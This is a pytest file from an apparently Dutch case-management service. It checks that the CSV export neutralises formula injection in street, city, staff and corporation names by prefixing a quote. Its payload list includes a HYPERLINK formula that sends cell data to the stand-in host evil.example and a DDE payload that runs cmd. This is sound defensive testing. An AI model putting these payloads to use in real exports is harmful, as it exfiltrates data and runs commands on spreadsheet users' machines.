"""CSV formula injection: a text cell a spreadsheet would run as a formula is neutralised.

OWASP's rule: a cell starting with =, +, -, @, a tab or a carriage return gets a single
quote in front, so Excel and LibreOffice show it as text. The payloads reach the export the
way an attacker with a coordinator's or an importer's hands would: as the street of a home
added to the register while routing a case.
"""

import csv
import io
import re

import httpx

from tests.factories import if_match
from tests.world import World

EXPORT = "/api/v1/cases.csv"
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\tTab Street",
    "\rCarriage Street",
)
HARMLESS = "Zuiderdiep; \"de Hoek\" = 'hier'"  # a formula sign inside a cell is fine
BOM = b"\xef\xbb\xbf"


def rows_of(response: httpx.Response) -> list[dict[str, str]]:
    """The file parsed as a spreadsheet import would, in either dialect."""
    excel = response.content.startswith(BOM)
    text = response.content.decode("utf-8-sig" if excel else "utf-8")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";" if excel else ","))


async def routed_with_street(world: World, house_number: int, street: str) -> str:
    """An unrouted case, routed to Lefier with its home added to the register as street."""
    coordinator = world.who("coordinator")
    home = {"postcode": "9999ZZ", "house_number": house_number}
    reference = (await world.report(home))["reference"]
    version = (await world.case(reference, coordinator))["version"]
    routed = await world.client.post(
        f"/api/v1/cases/{reference}/route",
        json={"corporation": "lefier", "add_to_portfolio": True, "street": street, "city": street},
        headers={**coordinator.headers, **if_match(version)},
    )
    assert routed.status_code == 200, routed.text
    return reference


# Per dialect: the columns' names, and what the untouched cells hold.
COLUMN_NAMES = {
    "standard": {
        "reference": "reference", "street": "street", "city": "city",
        "house_number": "house_number", "postcode": "postcode", "status": "status",
        "acute": "acute", "reported_at": "reported_at", "corporation": "corporation",
    },
    "excel-nl": {
        "reference": "Referentie", "street": "Straat", "city": "Plaats",
        "house_number": "Huisnummer", "postcode": "Postcode", "status": "Status",
        "acute": "Acuut", "reported_at": "Gemeld op", "corporation": "Corporatie",
    },
}  # fmt: skip
UNTOUCHED = {
    "standard": {
        "postcode": "9999ZZ", "status": "new", "acute": "false", "corporation": "lefier",
    },
    "excel-nl": {
        "postcode": "9999 ZZ", "status": "Nieuw", "acute": "Nee",
        "corporation": "Lefier",
    },
}  # fmt: skip
TIME = {
    "standard": re.compile(r"20\d\d-\d\d-\d\dT\d\d:\d\d:\d\dZ"),
    "excel-nl": re.compile(r"\d\d-\d\d-20\d\d \d\d:\d\d"),
}


async def test_formula_cells_are_neutralised_in_both_dialects_and_nothing_else(world: World):
    streets = {}
    for number, street in enumerate((*PAYLOADS, HARMLESS), start=1):
        streets[await routed_with_street(world, number, street)] = (number, street)
    for dialect, names in COLUMN_NAMES.items():
        response = await world.client.get(
            EXPORT, params={"dialect": dialect}, headers=world.who("coordinator").headers
        )
        assert response.status_code == 200, response.text
        rows = {
            row[names["reference"]]: {column: row[name] for column, name in names.items()}
            for row in rows_of(response)
        }
        assert set(rows) == set(streets)
        for reference, (number, street) in streets.items():
            row = rows[reference]
            expected = street if street == HARMLESS else "'" + street
            assert (row["street"], row["city"]) == (expected, expected), (dialect, street)
            # Numbers, codes, labels and times are what they were.
            assert row["house_number"] == str(number)
            assert {column: row[column] for column in UNTOUCHED[dialect]} == UNTOUCHED[dialect]
            assert TIME[dialect].fullmatch(row["reported_at"]), (dialect, row["reported_at"])


async def test_a_formula_in_a_staff_name_is_neutralised_too(world: World, conn):
    coordinator = world.who("coordinator")
    reference = await routed_with_street(world, 1, "Zuiderdiep")
    await conn.execute("UPDATE users SET name = '=1+1' WHERE id = $1", coordinator.id)
    await conn.execute(
        "UPDATE cases SET assignee_id = $2 WHERE reference = $1", reference, coordinator.id
    )
    response = await world.client.get(EXPORT, headers=coordinator.headers)
    (row,) = rows_of(response)
    assert row["assignee"] == "'=1+1"


async def test_a_formula_in_a_corporation_name_is_neutralised_in_excel_nl(world: World, conn):
    # The Excel (NL) file names the corporation, which an admin typed, instead of its code.
    await routed_with_street(world, 1, "Zuiderdiep")
    await conn.execute("UPDATE corporations SET name = '@SUM(A1)' WHERE code = 'lefier'")
    response = await world.client.get(
        EXPORT, params={"dialect": "excel-nl"}, headers=world.who("coordinator").headers
    )
    (row,) = rows_of(response)
    assert row["Corporatie"] == "'@SUM(A1)"
